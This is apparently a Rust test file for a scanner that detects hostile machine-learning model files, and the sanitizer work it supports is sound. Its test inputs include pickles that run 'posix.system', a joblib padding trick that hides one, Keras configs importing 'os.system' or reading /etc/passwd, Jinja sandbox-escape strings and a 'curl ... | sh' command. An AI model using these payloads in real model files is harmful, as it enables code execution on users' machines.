//! What is hostile in joblib, HDF5, Keras, SavedModel, TFLite and repository files is seen, and what is
//! ordinary there is not held against them.

#![allow(clippy::expect_used, reason = "a test that cannot prepare its world has failed")]

use bartizan_artifact::INSPECTORS;
use bartizan_inspect::{Examination, Limits, Source, examine};

fn look(name: &str, bytes: &[u8]) -> Examination {
    examine(&Source::from_bytes(name, bytes.to_vec(), Limits::default()), INSPECTORS)
}

fn fixture(name: &str) -> Vec<u8> {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures").join(name);
    std::fs::read(path).expect("a fixture")
}

#[track_caller]
fn flags(name: &str, bytes: &[u8], rule: &str) {
    let seen = look(name, bytes);
    assert!(seen.findings.iter().any(|finding| finding.rule.id == rule), "{name}, {rule}: {seen:?}");
}

#[track_caller]
fn clean(name: &str, bytes: &[u8]) {
    let seen = look(name, bytes);
    assert!(!seen.inspectors.is_empty(), "{name}: nobody looked");
    assert!(seen.findings.is_empty() && seen.completeness.is_complete(), "{name}: {seen:?}");
}

#[test]
fn arrays_of_joblib_are_followed_to_the_last_opcode() {
    clean("arrays.joblib", &fixture("arrays.joblib"));
    flags("a.joblib", &fixture("hostile-object-array.joblib"), "BZ-PKL-001");
    flags("a.joblib", &fixture("hostile-after-array.joblib"), "BZ-PKL-001");
}

#[test]
fn array_data_that_a_plain_unpickler_would_run_are_seen() {
    let mut bytes = fixture("arrays.joblib");
    let build = bytes.windows(4).position(|window| window == b"K\x10ub").expect("the BUILD of the first array");
    let start = build + 4;
    let padding = 1 + usize::from(bytes[start]);
    // To joblib `0` is the length of a padding of 48 bytes, to pickle it is POP, and the padding a program.
    let mut padded = b"0cposix\nsystem\n(S'id'\ntR.".to_vec();
    padded.resize(1 + 48, b'.');
    bytes.splice(start..start + padding, padded);
    let seen = look("a.joblib", &bytes);
    assert!(seen.completeness.is_complete(), "joblib reads it to the end: {seen:?}");
    flags("a.joblib", &bytes, "BZ-PKL-001");
}

#[test]
fn a_dtype_that_lies_about_its_size_is_not_followed() {
    let mut bytes = fixture("arrays.joblib");
    // The size in the state of the structured dtype: 12 becomes 13.
    let at = bytes.windows(4).position(|window| window == b"K\x0cK\x01").expect("the size of the structure");
    bytes[at + 1] = 13;
    assert!(!look("a.joblib", &bytes).completeness.is_complete());
}

#[test]
fn keras_configurations_in_hdf5_are_read() {
    clean("dense.h5", &fixture("dense.h5"));
    flags("lambda.h5", &fixture("lambda.h5"), "BZ-KRS-001");
    flags("pickled.h5", &fixture("pickled-attribute.h5"), "BZ-PKL-001");
    flags("external.h5", &fixture("external-link.h5"), "BZ-HDF-001");
    let cut = &fixture("dense.h5")[..1500];
    assert!(!look("cut.h5", cut).completeness.is_complete());
}

#[test]
fn keras_objects_are_judged_by_what_they_import() {
    let layer = |object: &str| format!(r#"{{"class_name":"Functional","config":{{"layers":[{object}]}}}}"#);
    let check = |object: &str, rule: &str| flags("model.json", layer(object).as_bytes(), rule);
    check(r#"{"module":"os","class_name":"function","config":"system"}"#, "BZ-KRS-003");
    check(r#"{"module":"keras.utils","class_name":"function","config":"get_file"}"#, "BZ-KRS-004");
    check(r#"{"module":"keras.src.utils.torch_utils","class_name":"TorchModuleWrapper","config":{}}"#, "BZ-KRS-004");
    check(r#"{"class_name":"__lambda__","config":{"value":"4wEA"}}"#, "BZ-KRS-001");
    check(r#"{"class_name":"Lambda","config":{"function":{"class_name":"__lambda__","config":{}}}}"#, "BZ-KRS-001");
    check(r#"{"class_name":"Lambda","config":{"function":"my_function","function_type":"function"}}"#, "BZ-KRS-002");
    check(
        r#"{"module":"keras.layers","class_name":"StringLookup","config":{"vocabulary":"/etc/passwd"}}"#,
        "BZ-KRS-005",
    );
    check(r#"{"module":"builtins","class_name":"Mine","registered_name":"pack>Mine","config":{}}"#, "BZ-KRS-006");
    clean(
        "model.json",
        layer(r#"{"module":"keras.layers","class_name":"Dense","config":{"activation":{"module":"keras.activations","class_name":"function","config":"relu"}},"registered_name":null}"#)
            .as_bytes(),
    );
}

fn field(number: u8, content: &[u8]) -> Vec<u8> {
    let mut out = vec![number << 3 | 2, u8::try_from(content.len()).expect("short")];
    out.extend_from_slice(content);
    out
}

fn saved_model(operators: &[&str], in_function: &[&str]) -> Vec<u8> {
    let nodes = |field_number, operators: &[&str]| -> Vec<u8> {
        operators.iter().flat_map(|operator| field(field_number, &field(2, operator.as_bytes()))).collect()
    };
    let library = field(2, &field(1, &nodes(3, in_function)));
    let graph = field(2, &[nodes(1, operators), library].concat());
    [vec![0x08, 1], field(2, &graph)].concat()
}

#[test]
fn operators_of_a_saved_model_are_judged_in_graph_and_functions() {
    clean("saved_model.pb", &saved_model(&["MatMul", "SaveV2"], &["Relu"]));
    flags("saved_model.pb", &saved_model(&["MatMul", "PyFunc"], &[]), "BZ-TFM-001");
    flags("saved_model.pb", &saved_model(&["MatMul"], &["EagerPyFunc"]), "BZ-TFM-001");
    flags("saved_model.pb", &saved_model(&["ReadFile"], &[]), "BZ-TFM-002");
    flags("saved_model.pb", &saved_model(&["Mine>Act"], &[]), "BZ-TFM-003");
    let metadata = field(1, &field(4, br#"{"class_name":"Lambda","config":{"function_type":"lambda"}}"#));
    flags("keras_metadata.pb", &metadata, "BZ-KRS-001");
    let whole = saved_model(&["MatMul"], &[]);
    assert!(!look("saved_model.pb", &whole[..whole.len() - 2]).completeness.is_complete());
}

/// A FlatBuffer with one operator code, custom where `name` says so (schema.fbs).
fn tflite(name: &str) -> Vec<u8> {
    let mut out = vec![0_u8; 8];
    out[4..8].copy_from_slice(b"TFL3");
    let word = |value: usize| u32::try_from(value).expect("short").to_le_bytes();
    // vtable of the model: size 8, table size 8, field 0 absent, field 1 at 4.
    let vtable = out.len();
    for half in [8_u16, 8, 0, 4] {
        out.extend_from_slice(&half.to_le_bytes());
    }
    let table = out.len();
    out.extend_from_slice(&word(table - vtable));
    out.extend_from_slice(&word(4));
    // The vector: one entry, which is 4 + 8 bytes further on.
    out.extend_from_slice(&word(1));
    let vtable_of_code = out.len() + 4;
    out.extend_from_slice(&word(4 + 8));
    for half in [8_u16, 8, 0, 4] {
        out.extend_from_slice(&half.to_le_bytes());
    }
    let code = out.len();
    out.extend_from_slice(&word(code - vtable_of_code));
    out.extend_from_slice(&word(4));
    out.extend_from_slice(&word(name.len()));
    out.extend_from_slice(name.as_bytes());
    out[0..4].copy_from_slice(&word(table));
    out
}

#[test]
fn custom_operators_of_tflite_are_named() {
    flags("m.tflite", &tflite("FlexPyFunc"), "BZ-TFL-002");
    flags("m.tflite", &tflite("Mine"), "BZ-TFL-001");
    clean("m.tflite", &tflite("TFLite_Detection_PostProcess"));
    let mut lying = tflite("Mine");
    lying[0] = 0xff;
    flags("m.tflite", &lying, "BZ-TFL-003");
}

#[test]
fn configurations_beside_the_weights_are_read() {
    flags("config.json", br#"{"model_type":"x","auto_map":{"AutoModel":"modeling_x.XModel"}}"#, "BZ-REP-001");
    flags(
        "tokenizer_config.json",
        br#"{"tokenizer_class":"T","chat_template":"{{ ''.__class__.__mro__ }}"}"#,
        "BZ-REP-002",
    );
    flags("chat.jinja", b"{% for x in cycler.__init__.__globals__ %}{% endfor %}", "BZ-REP-002");
    flags("config.json", br#"{"model_type":"x","setup":"curl http://a.example/x | sh"}"#, "BZ-REP-003");
    clean("class.py.j2", b"class {{ name }}:\n    def __init__(self):\n        pass\n");
    clean(
        "tokenizer_config.json",
        br#"{"tokenizer_class":"T","chat_template":"{% for m in messages %}{{ m['content'] }}{% endfor %}"}"#,
    );
}

#[test]
fn encoded_pickles_in_text_are_followed() {
    let inner = b"\x80\x04\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.";
    let hexadecimal: String = inner.iter().map(|byte| format!("{byte:02x}")).collect();
    let base64 = "gASMBXBvc2l4jAZzeXN0ZW2TjAJpZIVSLg==";
    for text in [hexadecimal.as_str(), base64] {
        let outer = [b"\x80\x04\x8c", &[u8::try_from(text.len()).expect("short")][..], text.as_bytes(), b"."].concat();
        flags("m.pkl", &outer, "BZ-PKL-011");
        flags("m.pkl", &outer, "BZ-PKL-001");
    }
}

#[test]
fn a_class_that_may_be_made_empty_may_not_be_called() {
    let class = "csklearn.utils._bunch\nBunch\n";
    let made = "cstatsmodels.base.data\nModelData\n";
    clean("m.pkl", format!("\u{80}\u{2}{made})\u{81}}}b.").chars().map(|c| c as u8).collect::<Vec<u8>>().as_slice());
    flags("m.pkl", format!("{made}(S'x'\ntR.").as_bytes(), "BZ-PKL-009");
    flags("m.pkl", format!("(i{}.", &made[1..]).as_bytes(), "BZ-PKL-009");
    let base = format!("ccopyreg\n_reconstructor\n({class}{made}NtR.");
    flags("m.pkl", base.as_bytes(), "BZ-PKL-009");
}

#[test]
fn distributions_of_scipy_that_execute_their_state_are_dangerous() {
    flags("m.pkl", b"cscipy.stats._continuous_distns\nnorm_gen\n)\x81}b.", "BZ-PKL-001");
}

#[test]
fn a_model_file_that_imports_and_breaks_is_flagged_and_a_list_of_words_is_not() {
    flags("model.pkl", b"cevil\nx\n", "BZ-PKL-002");
    flags("model.pkl", b"ievil\nx\n", "BZ-PKL-002");
    let seen = look("top_level.txt", b"isympy\nsympy\n");
    assert!(seen.findings.is_empty() && seen.completeness.is_complete(), "{seen:?}");
}

#[test]
fn a_class_that_may_be_made_empty_reaches_no_function_that_could_call_it() {
    let class = "csklearn.model_selection._search\nParameterGrid\n";
    let handed = [
        format!("ctorch._tensor\n_rebuild_from_type_v2\n({class}ctorch\nTensor\n(S'x'\nt}}tR."),
        format!("cnumpy.random._pickle\n__generator_ctor\n(S'x'\n{class}tR."),
        format!("cnumpy.random._pickle\n__bit_generator_ctor\n({class}tR."),
        format!("ccollections\ndefaultdict\n({class}tR."),
        format!("c__builtin__\nlist\n({class})\u{81}tR."),
        format!("c__builtin__\nlist\n(ctorch.jit._pickle\nrestore_type_tag\n({class}S'x'\ntRtR."),
    ];
    for pickle in handed {
        let bytes: Vec<u8> = [0x80, 2].into_iter().chain(pickle.chars().map(|c| c as u8)).collect();
        flags("m.pkl", &bytes, "BZ-PKL-009");
    }
    // What hands its argument back hides no class from the rule on changing classes.
    let changed = format!("ctorch.jit._pickle\nrestore_type_tag\n({class}S'x'\ntR(N}}S'predict'\nNstb.");
    flags("m.pkl", changed.as_bytes(), "BZ-PKL-006");
}

#[test]
fn no_function_on_the_list_may_be_handed_a_class_that_may_only_be_made_empty() {
    let allowed = include_str!("../src/pickle/allowed.txt");
    let entries = allowed.lines().filter(|line| !line.is_empty() && !line.starts_with(['#', '[']));
    let class = "csklearn.model_selection._search\nParameterGrid\n";
    let mut tried = 0;
    for entry in entries {
        let mut words = entry.split_whitespace();
        let (Some(module), Some(name)) = (words.next(), words.next()) else { continue };
        // Reviewed: these do not call what they are given, or only hand it back.
        if matches!(words.next(), Some("takes" | "identity" | "nested" | "encode" | "reconstruct" | "name" | "new")) {
            continue;
        }
        for handed in [format!("c{module}\n{name}\n({class}tR."), format!("c{module}\n{name}\n(({class})\u{81}ttR.")] {
            let bytes: Vec<u8> = [0x80, 2].into_iter().chain(handed.chars().map(|c| c as u8)).collect();
            flags("m.pkl", &bytes, "BZ-PKL-009");
        }
        tried += 1;
    }
    assert!(tried > 500, "{tried}");
}

#[track_caller]
fn is_a_gap(name: &str, bytes: &[u8], reason: &str) {
    match look(name, bytes).completeness {
        bartizan_core::Completeness::Partial(said) => {
            assert_eq!(said, format!("{reason} is recognised but not inspected"));
        }
        other => panic!("{name}: {other:?}"),
    }
}

#[test]
fn models_that_nobody_looks_into_are_a_gap_whatever_they_are_called() {
    is_a_gap("a.txt", b"Rar!\x1a\x07\x00 of version 4", "rar");
    is_a_gap("a.txt", b"Rar!\x1a\x07\x01\x00 of version 5", "rar");
    // specificationVersion 8, a description, an mlProgram (502) or a neuralNetwork (500).
    for kind in [b"\xb2\x1f", b"\xa2\x1f"] {
        let model = [b"\x08\x08\x12\x03\x0a\x01x" as &[u8], kind, b"\x02\x08\x01"].concat();
        is_a_gap("a.txt", &model, "coreml");
    }
    let manifest = br#"{"fileFormatVersion": "1.0.0", "itemInfoEntries": {}, "rootModelIdentifier": "A"}"#;
    is_a_gap("m.mlpackage/Manifest.json", manifest, "a Core ML package");
    for text in [
        "<?xml version=\"1.0\"?>\n<net name=\"m\" version=\"11\">\n<layers/></net>",
        "\u{feff}<!-- <x> --> <net version='10'/>",
    ] {
        is_a_gap("a.txt", text.as_bytes(), "OpenVINO IR");
    }
    let far = format!("<!--{}--><net version='10'/>", " ".repeat(1 << 20));
    is_a_gap("a.txt", far.as_bytes(), "XML whose root element is far from its start");
}

#[test]
fn text_and_messages_that_only_resemble_a_model_are_no_gap() {
    for (name, text) in [
        ("a.xml", "<?xml version=\"1.0\"?><network version=\"11\"/>"),
        ("a.xml", "<net name=\"fishing\"/>"),
        ("a.xml", "<a><net version=\"11\"/></a>"),
        ("Manifest.json", "{\"rootModelIdentifier\": 1}"),
        ("Manifest.json", "{"),
        ("a.bin2", "\u{8}\u{8}"),
        ("a.bin2", "\u{8}\u{8}\u{12}\u{3}abc\u{1a}\u{1}x"),
    ] {
        assert!(look(name, text.as_bytes()).completeness.is_complete(), "{text}");
    }
}

#[test]
fn a_configuration_does_not_escape_its_inspector_by_looking_like_a_manifest() {
    let lambda =
        br#"{"itemInfoEntries": {}, "rootModelIdentifier": "A", "class_name": "Sequential", "config": {"layers":
        [{"class_name": "Lambda", "config": {"function": ["4wEAAAA=", null, null]}}]}}"#;
    let seen = look("Manifest.json", lambda);
    assert!(!seen.findings.is_empty() && !seen.completeness.is_complete(), "{seen:?}");
}

#[test]
fn boosted_trees_of_every_library_are_read_and_lies_about_their_nodes_named() {
    for (name, framework) in
        [("boost.json", "xgboost"), ("boost.ubj", "xgboost"), ("boost.lgb.txt", "lightgbm"), ("boost.cbm", "catboost")]
    {
        clean(name, &fixture(name));
        let seen = look(name, &fixture(name));
        let model = seen.components.first().unwrap_or_else(|| panic!("{name}: {seen:?}"));
        assert_eq!(model.properties.get("framework").map(|property| property.value.as_str()), Some(framework));
        if framework != "catboost" {
            assert_eq!(model.properties.get("trees").map(|property| property.value.as_str()), Some("2"), "{name}");
        }
    }
    let replace = |name: &str, from: &str, to: &str| {
        let bytes = fixture(name);
        let at = memchr::memmem::find(&bytes, from.as_bytes()).expect("the text");
        [&bytes[..at], to.as_bytes(), &bytes[at + from.len()..]].concat()
    };
    flags("m.json", &replace("boost.json", "\"num_nodes\":\"3\"", "\"num_nodes\":\"9\""), "BZ-TRE-001");
    flags("m.json", &replace("boost.json", "\"left_children\":[1", "\"left_children\":[7"), "BZ-TRE-001");
    flags(
        "m.ubj",
        &replace("boost.ubj", "num_nodesSL\0\0\0\0\0\0\0\u{1}3", "num_nodesSL\0\0\0\0\0\0\0\u{1}9"),
        "BZ-TRE-001",
    );
    flags("m.txt", &replace("boost.lgb.txt", "num_leaves=3", "num_leaves=4"), "BZ-TRE-001");
    flags("m.txt", &replace("boost.lgb.txt", "left_child=-1 -2", "left_child=-1 99"), "BZ-TRE-001");
    let mut long = fixture("boost.cbm");
    long[6] = 0x7f;
    flags("m.cbm", &long, "BZ-TRE-001");
    for name in ["boost.json", "boost.ubj", "boost.lgb.txt"] {
        let bytes = fixture(name);
        let seen = look(name, &bytes[..bytes.len() / 8]);
        assert!(!seen.completeness.is_complete(), "{name}: {seen:?}");
    }
}

/// Text in every encoding that Python's `json.loads` detects.
fn encoded(text: &str) -> Vec<Vec<u8>> {
    let short = |order: fn(u16) -> [u8; 2]| text.encode_utf16().flat_map(order).collect::<Vec<u8>>();
    let long = |order: fn(u32) -> [u8; 4]| text.chars().flat_map(|c| order(c.into())).collect::<Vec<u8>>();
    vec![
        [&[0xef, 0xbb, 0xbf], text.as_bytes()].concat(),
        short(u16::to_le_bytes),
        short(u16::to_be_bytes),
        [&[0xff, 0xfe], &short(u16::to_le_bytes)[..]].concat(),
        [&[0xfe, 0xff], &short(u16::to_be_bytes)[..]].concat(),
        long(u32::to_le_bytes),
        long(u32::to_be_bytes),
        [&[0xff, 0xfe, 0, 0], &long(u32::to_le_bytes)[..]].concat(),
        [&[0, 0, 0xfe, 0xff], &long(u32::to_be_bytes)[..]].concat(),
    ]
}

#[test]
fn configurations_are_read_in_every_encoding_that_python_detects() {
    let lambda =
        r#"{"class_name":"Functional","config":{"layers":[{"class_name":"__lambda__","config":{"value":"4wEA"}}]}}"#;
    let tokenizer = r#"{"tokenizer_class":"T","auto_map":{"AutoTokenizer":["tok.X",null]}}"#;
    for bytes in encoded(lambda) {
        flags("config.json", &bytes, "BZ-KRS-001");
        flags("model.h5@model_config", &bytes, "BZ-KRS-001");
    }
    for bytes in encoded(tokenizer) {
        flags("tokenizer_config.json", &bytes, "BZ-REP-001");
    }
    // What only Python takes, and what nobody does.
    let also =
        [tokenizer.replace("\"T\"", "NaN"), tokenizer.replace("\"T\"", "[-Infinity, \"\\ud800 NaN \\ud83d\\ude00\"]")];
    for text in also {
        flags("tokenizer_config.json", text.as_bytes(), "BZ-REP-001");
    }
    let deep = format!("{{\"tokenizer_class\":{}{},{}", "[".repeat(900), "]".repeat(900), &tokenizer[1..]);
    assert!(!look("tokenizer_config.json", deep.as_bytes()).completeness.is_complete());
    assert!(!look("model.h5@model_config", b"\xff\xfe{").completeness.is_complete());
}

#[test]
fn an_adapter_imports_no_module_but_a_library_of_models() {
    let with = |library: &str| {
        format!(r#"{{"peft_type":"LORA","auto_mapping":{{"base_model_class":"X","parent_library":"{library}"}}}}"#)
    };
    for library in ["os", "evil.module", "transformersx", ""] {
        flags("adapter_config.json", with(library).as_bytes(), "BZ-REP-004");
    }
    flags("adapter_config.json", with("transformers_modules.somebody.model").as_bytes(), "BZ-REP-001");
    clean("adapter_config.json", with("transformers.models.llama.modeling_llama").as_bytes());
    clean("adapter_config.json", br#"{"peft_type":"LORA","auto_mapping":null}"#);
}
